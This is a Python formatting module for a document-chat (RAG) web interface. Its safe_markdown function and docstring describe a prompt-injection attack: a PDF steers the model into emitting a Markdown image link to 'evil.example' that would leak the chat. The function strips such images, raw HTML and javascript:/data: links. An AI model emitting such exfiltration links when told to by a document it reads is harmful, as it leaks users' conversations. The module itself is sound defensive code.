"""Pure functions that turn domain objects into what the Gradio components display.

Nothing here touches Gradio's runtime or the services, so every rule of how a source, a
document or a conversation looks on screen is tested as plain values
(tests/ui/test_formatting.py). Domain records may arrive as dataclasses or as dicts
(storage rows), so fields are read with ``field()``. Functions that produce words take
the tab's ``lang`` ('en' or 'zh'); the words themselves live in ui/i18n.py.
"""

from __future__ import annotations

import html
import re
from typing import Any, Iterable, Mapping

from rag.types import Source
from ui.i18n import error_text, stage_text, status_text, t

SNIPPET_CHARS = 220
EMPTY_CHAT = t("en", "empty_chat")
EMPTY_SOURCES = t("en", "empty_sources")
EMPTY_DOCUMENTS = t("en", "empty_documents")
NEW_CHAT_TITLE = t("en", "new_chat_title")
STOPPED_MARK = t("en", "stopped_mark")

_MARKDOWN_SPECIALS = re.compile(r"([\\`*_{}\[\]<>()#+\-!|~])")


# Code (fenced blocks and inline spans) is shown literally by the Markdown renderer and
# kept as is; everything else is made inert.
_CODE = re.compile(r"(```.*?(?:```|$)|~~~.*?(?:~~~|$)|`[^`\n]*`)", re.DOTALL)
_HTML_TAG = re.compile(r"<(?=\s*/?\s*[A-Za-z!?])")
_IMAGE = re.compile(r"!\[")
_UNSAFE_LINK = re.compile(r"\]\(\s*<?\s*(?:javascript|vbscript|data|file):[^)]*\)", re.IGNORECASE)
_UNSAFE_REF = re.compile(r"^(\s*\[[^\]]+\]:\s*)(?:javascript|vbscript|data|file):\S*", re.IGNORECASE | re.MULTILINE)


def safe_markdown(text: str) -> str:
    """Model output made safe to render: no remote fetch, no script, no frame.

    Why: a PDF can talk the model into writing ``![x](https://evil.example/?q=<chat>)``;
    rendered, the browser would fetch it and leak the chat. Images become their literal
    text, raw HTML tags (img, iframe, script, ...) are shown as text, and
    javascript:/data: links lose their target. Ordinary Markdown (bold, lists, code,
    https links a user must click) is untouched.

    Why not nh3 or markdown-it-py: this works on the Markdown the chatbot renders, not on
    HTML. nh3 would escape ``>`` (blockquotes and code break) and cannot see Markdown images
    or ``javascript:`` links; rendering to HTML with markdown-it first would change the text a
    user copies from the chat. Gradio's own sanitizer still runs on the rendered HTML.
    """
    pieces = _CODE.split(text)
    for i in range(0, len(pieces), 2):  # even pieces are outside code
        piece = _HTML_TAG.sub("&lt;", pieces[i])
        piece = _IMAGE.sub(r"!\\[", piece)
        piece = _UNSAFE_LINK.sub("]", piece)
        pieces[i] = _UNSAFE_REF.sub(r"\1#", piece)
    return "".join(pieces)


def field(record: Any, name: str, default: Any = None) -> Any:
    """Read ``name`` from a dataclass-like object or a mapping."""
    if isinstance(record, Mapping):
        return record.get(name, default)
    return getattr(record, name, default)


def escape_markdown(text: str) -> str:
    """Backslash-escape Markdown so PDF text is shown literally, never as formatting."""
    return _MARKDOWN_SPECIALS.sub(r"\\\1", text)


def snippet(text: str, limit: int = SNIPPET_CHARS) -> str:
    """One line of at most ``limit`` characters, cut on a word boundary when possible."""
    flat = " ".join(text.split())
    if len(flat) <= limit:
        return flat
    cut = flat[:limit]
    space = cut.rfind(" ")
    if space > limit * 0.6:
        cut = cut[:space]
    return cut.rstrip(" ,.;:") + "…"


def source_label(number: int, source: Source | Mapping[str, Any]) -> str:
    """'[2] report.pdf p. 7' — the same [n] the model was told to cite."""
    return f"[{number}] {field(source, 'filename', '?')} p. {field(source, 'page', '?')}"


SECTION_CHARS = 80


def source_place(source: Source | Mapping[str, Any], lang: str = "en") -> str:
    """'p. 54 · Consolidated Statements of Income': the page, and the statement or heading it
    sits under when known (the innermost heading of a path, shortened)."""
    place = t(lang, "page", page=field(source, "page", "?"))
    section = str(field(source, "section", None) or "").split(" › ")[-1].strip()
    return f"{place} · {snippet(section, SECTION_CHARS)}" if section else place


def sources_markdown(sources: Iterable[Source | Mapping[str, Any]] | None, lang: str = "en") -> str:
    """The #sources panel: one numbered entry per source, in the order given to the model."""
    items = list(sources or [])
    if not items:
        return t(lang, "empty_sources")
    blocks = []
    for number, source in enumerate(items, start=1):
        filename = escape_markdown(str(field(source, "filename", "?")))
        text = escape_markdown(snippet(str(field(source, "text", ""))))
        blocks.append(f"**[{number}]** {filename} · {escape_markdown(source_place(source, lang))}\n> {text}")
    return "\n\n".join(blocks)


def chat_messages(messages: Iterable[Any], lang: str = "en") -> list[dict[str, str]]:
    """Stored messages → the #chatbot value (messages format), user and assistant only.

    An answer that was stopped says so, so a reloaded chat does not look cut off by mistake.
    """
    shown = []
    for message in messages:
        role = field(message, "role")
        if role in ("user", "assistant"):
            content = str(field(message, "content", "") or "")
            if role == "assistant":
                content = safe_markdown(content)
            if role == "assistant" and field(message, "status") == "partial":
                content += t(lang, "stopped_mark")
            shown.append({"role": role, "content": content})
    return shown


def last_answer_sources(messages: Iterable[Any]) -> list[Any]:
    """Sources of the newest assistant message (what #sources shows after a switch)."""
    for message in reversed(list(messages)):
        if field(message, "role") == "assistant":
            return list(field(message, "sources", None) or [])
    return []


def message_text(content: Any) -> str:
    """Plain text of a #chatbot message content (str, or Gradio's normalized parts)."""
    if isinstance(content, str):
        return content
    if isinstance(content, Mapping):
        return str(content.get("text", "") or "")
    if isinstance(content, (list, tuple)):
        return "".join(message_text(part) for part in content)
    return ""


def conversation_choices(conversations: Iterable[Any], lang: str = "en") -> list[tuple[str, str]]:
    """#conversations choices: (title, id), newest first as the history returns them."""
    choices = []
    for conversation in conversations:
        title = (field(conversation, "title") or "").strip() or t(lang, "new_chat_title")
        choices.append((title, str(field(conversation, "id"))))
    return choices


def document_choices(documents: Iterable[Any]) -> list[tuple[str, str]]:
    """(filename, id) of the documents one can chat with or delete (ready ones only)."""
    return [
        (str(field(d, "filename")), str(field(d, "id")))
        for d in documents
        if field(d, "status") == "ready"
    ]


def removable_choices(documents: Iterable[Any], lang: str = "en") -> list[tuple[str, str]]:
    """(label, id) of every document, failed ones too, for "Remove a document"."""
    return [
        (str(field(d, "filename"))
         + ("" if field(d, "status") == "ready" else f" ({status_text(lang, str(field(d, 'status')))})"),
         str(field(d, "id")))
        for d in documents
    ]


def documents_html(documents: Iterable[Any], lang: str = "en") -> str:
    """The #documents list: per document its filename, pages, chunks, status and any error.

    Two lines per document (name, then details) read well in a narrow side column.
    """
    items = []
    for d in documents:
        name = html.escape(str(field(d, "filename", "")))
        status = html.escape(str(field(d, "status", "")))
        error = field(d, "error") or ""
        items.append(
            f"<li class='doc' data-status='{status}'>"
            f"<div class='doc-name' title='{name}'>{name}</div>"
            "<div class='doc-meta'>"
            f"<span class='pages'>{html.escape(str(field(d, 'pages', 0) or 0))}</span> {t(lang, 'pages')} · "
            f"<span class='chunks'>{html.escape(str(field(d, 'chunks', 0) or 0))}</span> {t(lang, 'chunks')} · "
            f"<span class='status status-{status}'>{html.escape(status_text(lang, status))}</span>"
            "</div>"
            + (f"<div class='doc-error'>{html.escape(error_text(lang, str(error)))}</div>" if error else "")
            + "</li>"
        )
    if not items:
        return f"<p class='empty-state'>{t(lang, 'empty_documents')}</p>"
    return "<ul class='doc-list'>" + "".join(items) + "</ul>"


def ingest_summary(results: Iterable[Any], lang: str = "en") -> tuple[list[str], list[str]]:
    """Split ingestion outcomes into (info lines, warning lines) for gr.Info / gr.Warning."""
    infos, warnings = [], []
    for r in results:
        name, status = field(r, "filename"), field(r, "status")
        if status == "ready":
            infos.append(t(lang, "ingest_ready", name=name, pages=field(r, "pages", 0), chunks=field(r, "chunks", 0)))
        elif status == "duplicate":
            infos.append(t(lang, "ingest_duplicate", name=name))
        else:
            error = str(field(r, "error") or t("en", "ingest_failed"))
            error = error if error.startswith(f"{name}:") else f"{name}: {error}"
            warnings.append(error_text(lang, error))
        warnings.extend(error_text(lang, f"{name}: {w}") for w in field(r, "warnings", None) or [])
    return infos, warnings


def progress_description(filename: str, index: int, count: int, stage: str, done: int, total: int,
                         lang: str = "en") -> str:
    """Text under the progress bar: which file of how many, which stage, how far."""
    where = f"{filename} ({index}/{count})" if count > 1 else filename
    amount = f" {done}/{total}" if total else ""
    return t(lang, "progress", where=where, stage=stage_text(lang, stage), amount=amount)


def progress_fraction(index: int, count: int, done: int, total: int) -> float:
    """Overall progress of a multi-file upload: finished files plus the current file's part."""
    part = done / total if total else 0.0
    return min(1.0, ((index - 1) + min(part, 1.0)) / max(count, 1))


def model_info_markdown(chat_model: str, embedding_model: str, device: str, lang: str = "en",
                        engine: str = "") -> str:
    """The #model-info line in the header: the chat model, its engine, embeddings, device."""
    chat = f"{chat_model} · {engine}" if engine else chat_model
    return t(lang, "model_info", chat=chat, embedding=embedding_model, device=device)
